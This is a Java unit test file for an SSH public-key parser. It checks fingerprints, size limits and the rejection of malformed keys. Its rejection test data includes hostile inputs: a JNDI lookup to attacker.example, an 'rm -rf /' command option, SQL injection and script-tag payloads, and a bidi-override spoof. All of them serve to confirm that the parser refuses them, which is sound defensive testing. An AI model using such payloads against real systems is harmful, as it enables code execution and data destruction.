package dev.muster.devices.sshkeys;

import static dev.muster.devices.sshkeys.TestKeys.b64;
import static dev.muster.devices.sshkeys.TestKeys.concat;
import static dev.muster.devices.sshkeys.TestKeys.line;
import static dev.muster.devices.sshkeys.TestKeys.wire;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.junit.jupiter.params.provider.Arguments.arguments;

import java.math.BigInteger;
import java.security.GeneralSecurityException;
import java.util.Arrays;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class SshPublicKeyTest {

    // Public halves of throwaway keys made with `ssh-keygen -t <type> -N '' -f /tmp/...`; fingerprints as
    // printed by `ssh-keygen -lf`. The private halves were deleted right away.
    private static final String KEYGEN_ED25519 =
            "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIKfdL6M3SYO2nH+t1+DrVnEJx7u039yUgQdoUtNKShS6 muster-test@example";
    private static final String KEYGEN_ECDSA = "ecdsa-sha2-nistp256 AAAAE2VjZHNhLXNoYTItbmlzdHAyNTYAAAAIbmlzdHAyNTYAAABBBFGs"
            + "jN62Ge1CaEmvB5S1vqfibZNlnPfxbBKZLWkr17Oct8TykXJmEyn1/394VjyWrr2VkvFBJsZrCluMRrxocOQ= ec";
    private static final String KEYGEN_RSA = "ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAABgQDR/KQnEIyQiEk26gMU44MdFIlNMjs9YTlv+whWW6"
            + "e9PS4ZTeCKArXJpqMoRHyGOoyoZQHBmbvhtyXHntS5yOwUH9EummiSzwJow4RBbfBS3XOB6YxU0PephrLLX7fDEVtPBlMDaWwG+QHUQI/AFIdM"
            + "XUHejpHwpfkwkdDm28ZwzSjwo70etJ/UiEOOATQY1Xa7S0PwV9JfvsRmfSaQf0vSBseP52O0u/S65c892GPZqWba+x2FyfNxV2mtpSde6Bwj"
            + "LEIaNjVZxughS5EfswGHeRolPV7yjfNmIfkAnRSyM3zbvk8I332xdY+41MTdl8Yk4l+tTkz30hrcSTgn6pkP7KTAwcY54+sI1VYRTBOdU+lkG24V"
            + "2WTeRT9CQfy0ubKOA9uNO+V6WtF+plQgi2H9HBFffABBvXaOtaDghMN1KnxcC2RvRMJR0ZD9gGtDSMy9Gd+fM/2hySPYWw84rmTagmk6F13NI2"
            + "svuDtjIXVMgWpkCdNhjTSPq4S8L6OKDIE= rsa";

    private static final byte[] ED_BLOB = TestKeys.ed25519Blob(TestKeys.ED25519);
    private static final String ED_LINE = line("ssh-ed25519", ED_BLOB);
    private static final String ED_B64 = b64(ED_BLOB);
    private static final BigInteger F4 = BigInteger.valueOf(65_537);

    static Stream<Arguments> generatedKeys() {
        return Stream.of(
                arguments("ssh-ed25519", ED_BLOB, 256, "ED25519"),
                arguments("ecdsa-sha2-nistp256", TestKeys.ecdsaBlob(TestKeys.EC256), 256, "ECDSA"),
                arguments("ecdsa-sha2-nistp384", TestKeys.ecdsaBlob(TestKeys.EC384), 384, "ECDSA"),
                arguments("ecdsa-sha2-nistp521", TestKeys.ecdsaBlob(TestKeys.EC521), 521, "ECDSA"),
                arguments("ssh-rsa", TestKeys.rsaBlob(TestKeys.RSA2048), 2048, "RSA"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("generatedKeys")
    void acceptsGeneratedKeyWithSizeAndFingerprint(String type, byte[] blob, int bits, String algorithm)
            throws GeneralSecurityException {
        var key = SshPublicKey.parse(line(type, blob) + " device@muster");

        assertThat(key.type()).isEqualTo(type);
        assertThat(key.base64()).isEqualTo(b64(blob));
        assertThat(key.comment()).isEqualTo("device@muster");
        assertThat(key.bits()).isEqualTo(bits);
        assertThat(key.algorithm()).isEqualTo(algorithm);
        assertThat(key.fingerprint()).isEqualTo(TestKeys.fingerprint(blob));
    }

    static Stream<Arguments> sshKeygenVectors() {
        return Stream.of(
                arguments(KEYGEN_ED25519, 256, "SHA256:xmOIFLbOxIu96u90cfMsR/ZZunh1ha9pYvHpxqdPaaA", "muster-test@example"),
                arguments(KEYGEN_ECDSA, 256, "SHA256:vRWtV122zBYDspi5oeyBKf+f9SpG3+LB4CU5XT6wAgs", "ec"),
                arguments(KEYGEN_RSA, 3072, "SHA256:vIqSzA3J9KKDcaoHvq8s6mWV721qJOg3pFniwiUpTmg", "rsa"));
    }

    @ParameterizedTest(name = "{1} bits, {3}")
    @MethodSource("sshKeygenVectors")
    void matchesWhatSshKeygenPrints(String pub, int bits, String fingerprint, String comment) {
        var key = SshPublicKey.parse(pub);

        assertThat(key.bits()).isEqualTo(bits);
        assertThat(key.fingerprint()).isEqualTo(fingerprint);
        assertThat(key.comment()).isEqualTo(comment);
        assertThat(key.line()).isEqualTo(pub);
    }

    @Test
    void trimsSurroundingWhitespaceButKeepsInternalCommentWhitespace() {
        var key = SshPublicKey.parse(" \t" + ED_LINE + "   my  laptop (work)  \r\n");

        assertThat(key.comment()).isEqualTo("my  laptop (work)");
        assertThat(key.line()).isEqualTo(ED_LINE + " my  laptop (work)");
    }

    @Test
    void acceptsTabsAsFieldSeparators() {
        var key = SshPublicKey.parse("ssh-ed25519\t" + ED_B64 + "\tlaptop");

        assertThat(key.line()).isEqualTo(ED_LINE + " laptop");
    }

    @Test
    void treatsMissingCommentAsNull() {
        var key = SshPublicKey.parse(ED_LINE);

        assertThat(key.comment()).isNull();
        assertThat(key.line()).isEqualTo(ED_LINE);
    }

    @Test
    void acceptsUnicodeCommentOfExactlyMaximumLength() {
        String comment = "Jürgen's 💻 " + "x".repeat(SshPublicKey.MAX_COMMENT_LENGTH - 11);

        assertThat(SshPublicKey.parse(ED_LINE + " " + comment).comment()).isEqualTo(comment);
    }

    @Test
    void keepsMarkupInCommentAsPlainData() {
        // The comment is free text: refusing markup would not make it safe to render unescaped anyway.
        assertThat(SshPublicKey.parse(ED_LINE + " <b>x</b>' OR 1=1 --").comment()).isEqualTo("<b>x</b>' OR 1=1 --");
    }

    @Test
    void acceptsRsaModulusOfExactlyMaximumSize() {
        var modulus = BigInteger.ONE.shiftLeft(SshPublicKey.MAX_RSA_BITS - 1).add(BigInteger.ONE);

        assertThat(SshPublicKey.parse(line("ssh-rsa", TestKeys.rsaBlob(F4, modulus))).bits())
                .isEqualTo(SshPublicKey.MAX_RSA_BITS);
    }

    @Test
    void roundTripsThroughCanonicalLine() {
        var key = SshPublicKey.parse(KEYGEN_ED25519);

        assertThat(SshPublicKey.parse(key.line())).isEqualTo(key);
    }

    @Test
    void constructorAcceptsConsistentFieldsFromStorage() {
        var parsed = SshPublicKey.parse(KEYGEN_ED25519);

        var restored = new SshPublicKey(parsed.type(), parsed.base64(), parsed.comment(), parsed.bits(), parsed.fingerprint());

        assertThat(restored).isEqualTo(parsed);
    }

    @Test
    void constructorRefusesBitsOrFingerprintThatDoNotMatchTheBlob() {
        var key = SshPublicKey.parse(KEYGEN_ED25519);

        assertThatThrownBy(() -> new SshPublicKey(key.type(), key.base64(), null, 4096, key.fingerprint()))
                .isInstanceOf(InvalidSshKeyException.class)
                .hasMessageContaining("do not match");
        assertThatThrownBy(() -> new SshPublicKey(key.type(), key.base64(), null, 256, "SHA256:forged"))
                .isInstanceOf(InvalidSshKeyException.class)
                .hasMessageContaining("do not match");
    }

    static Stream<Arguments> refusedLines() {
        byte[] ec256 = TestKeys.ecdsaBlob(TestKeys.EC256);
        byte[] point = TestKeys.uncompressedPoint(TestKeys.EC256);
        byte[] offCurve = point.clone();
        offCurve[offCurve.length - 1] ^= 1;
        byte[] compressed = concat(new byte[] {(byte) (2 + (point[point.length - 1] & 1))}, Arrays.copyOfRange(point, 1, 33));
        var n2048 = TestKeys.RSA2048.getModulus();
        String ecB64 = b64(ec256);
        return Stream.of(
                arguments("null", null, "missing"),
                arguments("blank", " \t\n ", "empty"),
                arguments("two lines", ED_LINE + "\n" + ED_LINE, "single line"),
                arguments("two lines joined by CR", ED_LINE + "\r" + ED_LINE, "single line"),
                arguments("Unicode line separator", ED_LINE + "\u2028" + ED_LINE, "single line"),
                arguments("OpenSSH private key", "-----BEGIN " + "OPENSSH PRIVATE KEY-----\n"
                        + "b3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ\n-----END " + "OPENSSH PRIVATE KEY-----\n", "private key"),
                arguments("PKCS#8 private key on one line", "-----BEGIN " + "PRIVATE KEY----- MC4CAQAwBQYDK2VwBCIEI", "private key"),
                arguments("type only", "ssh-ed25519", "expected '<type> <base64> [comment]'"),
                arguments("ssh-dss", line("ssh-dss", wire("ssh-dss", new byte[] {1}, new byte[] {1}, new byte[] {1},
                        new byte[] {1})), "DSA"),
                arguments("unknown type", "ssh-foo " + ED_B64, "unsupported key type"),
                arguments("certificate type", "ssh-ed25519-cert-v01@openssh.com " + ED_B64, "unsupported key type"),
                arguments("FIDO type", "sk-ssh-ed25519@openssh.com " + ED_B64, "unsupported key type"),
                arguments("type differs from blob", "ssh-rsa " + ED_B64, "does not match the declared type"),
                arguments("ECDSA size differs from blob", "ecdsa-sha2-nistp384 " + ecB64, "does not match the declared type"),
                arguments("truncated blob", line("ssh-ed25519", Arrays.copyOf(ED_BLOB, ED_BLOB.length - 3)), "truncated"),
                arguments("empty blob", "ssh-ed25519 AAAA", "truncated"),
                arguments("length field of 2^31", line("ssh-ed25519", new byte[] {(byte) 0x80, 0, 0, 0, 1}), "truncated"),
                arguments("length field of 2^32-1", line("ssh-ed25519", concat(wire("ssh-ed25519"),
                        new byte[] {-1, -1, -1, -1, 1, 2})), "truncated"),
                arguments("trailing bytes", line("ssh-ed25519", concat(ED_BLOB, new byte[] {0})), "trailing bytes"),
                arguments("bad base64 characters", "ssh-ed25519 AAAA$$$$", "base64"),
                arguments("missing base64 padding", "ecdsa-sha2-nistp256 " + ecB64.replace("=", ""), "base64"),
                arguments("base64 with non-zero trailing bits", "ecdsa-sha2-nistp256 " + withTrailingBitSet(ecB64), "base64"),
                arguments("RSA 1024", line("ssh-rsa", TestKeys.rsaBlob(TestKeys.RSA1024)), "at least 2048 bits"),
                arguments("RSA above 16384 bits", line("ssh-rsa", TestKeys.rsaBlob(F4,
                        BigInteger.ONE.shiftLeft(16_384).add(BigInteger.ONE))), "at most 16384 bits"),
                arguments("RSA even exponent", line("ssh-rsa", TestKeys.rsaBlob(BigInteger.valueOf(65_536), n2048)), "exponent"),
                arguments("RSA exponent 1", line("ssh-rsa", TestKeys.rsaBlob(BigInteger.ONE, n2048)), "exponent"),
                arguments("RSA negative modulus", line("ssh-rsa", TestKeys.rsaBlob(F4, n2048.negate())), "modulus must be positive"),
                arguments("RSA modulus missing", line("ssh-rsa", wire("ssh-rsa", F4.toByteArray())), "truncated"),
                arguments("ECDSA point not on curve", line("ecdsa-sha2-nistp256",
                        wire("ecdsa-sha2-nistp256", "nistp256", offCurve)), "not on the nistp256 curve"),
                arguments("ECDSA compressed point", line("ecdsa-sha2-nistp256",
                        wire("ecdsa-sha2-nistp256", "nistp256", compressed)), "compressed"),
                arguments("ECDSA point too short", line("ecdsa-sha2-nistp256",
                        wire("ecdsa-sha2-nistp256", "nistp256", Arrays.copyOf(point, 64))), "wrong encoding"),
                arguments("ECDSA curve differs from type", line("ecdsa-sha2-nistp256", wire("ecdsa-sha2-nistp256",
                        "nistp384", TestKeys.uncompressedPoint(TestKeys.EC384))), "curve does not match"),
                arguments("Ed25519 key of 31 bytes", line("ssh-ed25519", wire("ssh-ed25519", new byte[31])), "32 bytes"),
                arguments("Ed25519 key of 33 bytes", line("ssh-ed25519", wire("ssh-ed25519", new byte[33])), "32 bytes"),
                arguments("oversized line", ED_LINE + " " + "a".repeat(SshPublicKey.MAX_LINE_LENGTH), "too long"),
                arguments("comment too long", ED_LINE + " " + "a".repeat(SshPublicKey.MAX_COMMENT_LENGTH + 1), "at most 255"),
                arguments("command option", "command=\"x\" " + ED_LINE, "options"),
                arguments("quoted option with spaces", "command=\"rm -rf /\",no-pty " + ED_LINE, "options"),
                arguments("flag option", "restrict " + ED_LINE, "options"),
                arguments("comment with bell", ED_LINE + " evil\u0007bell", "control characters"),
                arguments("comment with NUL", ED_LINE + " a\u0000b", "control characters"),
                arguments("comment with tab", ED_LINE + " a\tb", "control characters"),
                arguments("comment with escape sequence", ED_LINE + " \u001b[31mred", "control characters"),
                arguments("comment with bidi override", ED_LINE + " admin\u202Egpj.exe", "control characters"),
                arguments("comment with lone surrogate", ED_LINE + " a\uD800b", "control characters"),
                arguments("SQL fragment", "'; DROP TABLE devices; --", "unsupported key type"),
                arguments("SQL in blob", "ssh-ed25519 ' OR '1'='1", "base64"),
                arguments("script tag", "<script>alert(1)</script>", "expected '<type> <base64> [comment]'"),
                arguments("script tag as blob", "ssh-ed25519 <script>alert(1)</script>", "base64"),
                arguments("JNDI lookup", "${jndi:ldap://attacker.example/a}", "expected '<type> <base64> [comment]'"),
                arguments("Unicode hyphen in type", "ssh\u2010ed25519 " + ED_B64, "unsupported key type"),
                arguments("full-width type", "ｓｓｈ-ｅｄ２５５１９ " + ED_B64, "unsupported key type"),
                arguments("no-break space as separator", "ssh-ed25519\u00A0" + ED_B64, "expected '<type> <base64> [comment]'"),
                arguments("Cyrillic letter in blob", "ssh-ed25519 " + ED_B64.replace('A', '\u0410'), "base64"));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("refusedLines")
    void refusesInvalidLineWithShortReasonThatDoesNotEchoKeyData(String name, String input, String reason) {
        assertThatThrownBy(() -> SshPublicKey.parse(input))
                .isInstanceOf(InvalidSshKeyException.class)
                .hasMessageContaining(reason)
                .satisfies(e -> {
                    assertThat(e.getMessage()).hasSizeLessThan(200);
                    longTokens(input).forEach(token -> assertThat(e.getMessage()).doesNotContain(token));
                });
    }

    /** Blobs and other long pieces of input; short ones such as the key type may legitimately be named. */
    private static List<String> longTokens(String input) {
        return input == null ? List.of()
                : Arrays.stream(input.split("\\s+")).filter(token -> token.length() > 40).toList();
    }

    /**
     * In a padded final group the last data character carries unused low bits; setting one keeps the decoded
     * bytes the same, which the JDK decoder tolerates but canonical base64 does not.
     */
    private static String withTrailingBitSet(String base64) {
        String alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
        int last = base64.indexOf('=') - 1;
        char flipped = alphabet.charAt(alphabet.indexOf(base64.charAt(last)) ^ 1);
        return base64.substring(0, last) + flipped + base64.substring(last + 1);
    }
}
